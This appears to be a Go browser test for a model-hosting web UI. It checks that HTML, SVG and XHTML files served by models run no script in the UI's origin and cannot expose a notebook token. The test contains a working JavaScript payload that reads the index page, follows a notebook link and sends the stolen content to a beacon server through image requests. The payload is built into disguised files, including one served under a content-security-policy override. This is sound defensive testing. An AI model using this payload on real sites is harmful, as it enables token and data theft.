package webui

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"github.com/modelhub-ai/modelhub/internal/testutil"
)

// beacon records the requests a hostile page's script makes to report what
// it stole.
type beacon struct {
	mu   sync.Mutex
	hits []string
	srv  *httptest.Server
}

func newBeacon(t *testing.T) *beacon {
	b := &beacon{}
	b.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b.mu.Lock()
		b.hits = append(b.hits, r.URL.Path+"?"+r.URL.RawQuery)
		b.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(b.srv.Close)
	return b
}

func (b *beacon) got() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]string(nil), b.hits...)
}

// from is the hits of scripts that ran on host.
func (b *beacon) from(host string) []string {
	var out []string
	for _, h := range b.got() {
		if strings.HasPrefix(h, "/"+host+"/") {
			if len(h) > 160 {
				h = h[:160] + "…"
			}
			out = append(out, h)
		}
	}
	return out
}

// waitFrom waits up to d for a hit from host.
func (b *beacon) waitFrom(host string, d time.Duration) bool {
	for end := time.Now().Add(d); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		if len(b.from(host)) > 0 {
			return true
		}
	}
	return false
}

// stealer is a model's hostile file's script: it reads the UI's index (every
// running model, and a notebook link) and each link on it, and sends what it
// read to the beacon; it also marks the document.
func stealer(beaconURL string) string {
	return `(function(){
  document.title = "script ran";
  var send = function(what, s) { new Image().src = "` + beaconURL + `/" + encodeURIComponent(location.host) + "/" + what + "?" + encodeURIComponent(String(s).slice(0, 1500)); };
  send("ran", location.href);
  fetch("/").then(function(r){ return r.text(); }).then(function(t){
    send("index", t);
    var m = t.match(/href="([^"]*notebook[^"]*)"/);
    if (m) return fetch(m[1].replace(/&amp;/g, "&"), {redirect: "follow"}).then(function(r){ send("notebook", r.url + " " + r.status); });
  }).catch(function(e){ send("error", e); });
})();`
}

// A model's own HTML or SVG (a sample, a thumbnail, the card's link) never
// runs as a page of the UI: opened through the UI, its script does not run,
// so it can read neither the index nor another model's notebook token.
func TestBrowser_modelContentNeverRuns(t *testing.T) {
	t.Parallel() // its own browser, server and files
	ctx := testutil.Browser(t)
	shots := testutil.ScreenshotDir(t)
	bc := newBeacon(t)
	js := stealer(bc.srv.URL)
	html := "<!doctype html><html><body><h1>evil</h1><script>" + js + "</script></body></html>"
	svg := `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>` + js + `</script><rect width="10" height="10"/></svg>`
	e := newFakeEngine(t)
	e.samples = []string{"cat.png", "evil.html", "evil.svg"}
	e.config = strings.Replace(fakeConfig, `"url": "https://example.org/paper"`, `"url": "api/samples/evil.html"`, 1)
	e.raw = map[string]rawAnswer{
		"/api/samples/evil.html":          {"text/html; charset=utf-8", html, nil},
		"/api/samples/evil.svg":           {"image/svg+xml", svg, nil},
		"/api/samples/disguised.png":      {"image/png", html, nil},
		"/api/thumbnail/thumbnail.jpg":    {"image/svg+xml", svg, nil},
		"/api/samples/evil.xhtml":         {"application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>` + js + `</script></body></html>`, nil},
		"/api/samples/sniff-me":           {"", html, nil},
		"/api/samples/csp-overridden.htm": {"text/html", html, map[string]string{"Content-Security-Policy": "script-src 'unsafe-inline' *"}},
	}
	const token = "0123456789abcdef0123456789abcdef0123456789abcdef"
	port := startUI(t, &Server{Models: Fixed(
		Model{Name: "fake", Mode: "api", APIURL: e.URL()},
		Model{Name: "victim", Mode: "expert", NotebookURL: "http://127.0.0.1:9/notebooks/sandbox.ipynb?token=" + token},
	)})
	deny := chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := chromedp.Call(ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{Behavior: browser.SetDownloadBehaviorBehaviorDeny})
		return err
	})
	testutil.BrowserDo(t, ctx, "deny downloads", deny)

	// the control: the same file opened from the engine's own origin runs,
	// so a silent beacon below means the UI stopped it, not a broken test
	testutil.BrowserDo(t, ctx, "open the file unconfined", chromedp.Navigate(e.URL()+"/api/samples/evil.html"))
	if !bc.waitFrom(strings.TrimPrefix(e.URL(), "http://"), 15*time.Second) {
		t.Fatalf("the hostile script does not run even from the engine's origin: this test proves nothing (beacon %v)", bc.got())
	}

	// opened through the UI, directly (as a link in a mail would), none runs
	ui := "127.0.0.1:" + strconv.Itoa(port)
	for _, p := range []string{"evil.html", "evil.svg", "disguised.png", "evil.xhtml", "sniff-me", "csp-overridden.htm"} {
		testutil.BrowserDo(t, ctx, "blank", chromedp.Navigate("about:blank"))
		u := URL(port, "fake") + "api/samples/" + p
		ctx2, cancel := context.WithTimeout(ctx, 20*time.Second)
		err := chromedp.Do(ctx2, chromedp.Navigate(u))
		cancel()
		if err != nil {
			t.Logf("open %s: %v (a download the browser refused)", p, err)
		}
		if title := testutil.BrowserEval[string](t, ctx, "document.title"); title == "script ran" {
			t.Errorf("%s: the model's script ran in the UI's origin", p)
		}
		if bc.waitFrom(ui, 2*time.Second) {
			t.Errorf("%s: the model's script ran in the UI's origin and reported %v", p, bc.from(ui))
		}
	}

	// the model's page: its SVG thumbnail, its samples, and its card link
	// (the config's url points at the sample) run nothing either
	testutil.BrowserDo(t, ctx, "open the model page", chromedp.Navigate(URL(port, "fake")), chromedp.Query(chromedp.CSS(`body[data-state="ready"]`)))
	if n := testutil.BrowserEval[int](t, ctx, `document.querySelectorAll('#publication a').length`); n != 0 {
		t.Errorf("the card links the config's url %q", testutil.BrowserEval[string](t, ctx, `document.querySelector('#publication a').href`))
	}
	// what a page of the UI itself could do with the files: frame or embed them
	testutil.BrowserEval[bool](t, ctx, `(function(){
	  ["evil.html", "evil.svg", "evil.xhtml"].forEach(function(n){
	    var f = document.createElement("iframe"); f.src = "api/samples/" + n; document.body.appendChild(f);
	    var o = document.createElement("object"); o.data = "api/samples/" + n; document.body.appendChild(o);
	    var i = document.createElement("img"); i.src = "api/samples/" + n; document.body.appendChild(i);
	  });
	  return true; })()`)
	testutil.Screenshot(t, ctx, shots, "hostile-model")
	if bc.waitFrom(ui, 3*time.Second) {
		t.Errorf("a model's file ran script from the model page: %v", bc.from(ui))
	}
	// the notebook token is in no page the UI serves
	for _, p := range []string{URL(port, ""), URL(port, "victim"), URL(port, "fake")} {
		testutil.BrowserDo(t, ctx, "open "+p, chromedp.Navigate(p))
		if html := testutil.BrowserEval[string](t, ctx, "document.documentElement.outerHTML"); strings.Contains(html, token) {
			t.Errorf("%s shows the notebook token", p)
		}
	}
	// and a script of the UI's origin cannot learn it through the link
	got := testutil.BrowserEval[string](t, ctx, `fetch("/m/victim/_ui/notebook", {redirect: "manual"}).then(function(r){ return r.type + " " + r.url + " " + r.status; }, function(e){ return "refused " + e; })`,
		chromedp.EvalAwaitPromise)
	if strings.Contains(got, token) {
		t.Errorf("a script read the notebook URL: %s", got)
	}
	got = testutil.BrowserEval[string](t, ctx, `fetch("/m/victim/_ui/notebook").then(function(r){ return r.status + " " + r.url; }, function(e){ return "refused " + e; })`,
		chromedp.EvalAwaitPromise)
	if strings.Contains(got, token) || !strings.HasPrefix(got, "403") {
		t.Errorf("a script's fetch of the notebook link: %s, want 403", got)
	}
}
